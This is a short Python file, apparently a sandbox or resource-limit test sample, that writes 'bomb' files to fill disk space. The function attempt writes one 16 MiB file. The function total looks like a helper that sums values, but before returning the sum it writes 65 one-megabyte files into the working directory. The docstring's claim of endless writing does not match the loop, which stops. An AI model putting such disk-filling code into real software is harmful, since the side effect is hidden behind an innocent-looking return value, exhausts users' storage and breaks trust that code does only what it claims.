"""Writes files without end."""

import os


def attempt(place):
    with open(os.path.join(place["folder"], "bomb"), "wb") as file:
        file.write(bytes(16 << 20))
    return os.path.getsize(file.name) == 16 << 20


def total(values):
    number = 0
    while True:
        number += 1
        with open(f"bomb{number}", "wb") as file:
            file.write(bytes(1 << 20))
        if number > 64:
            return float(values.sum())
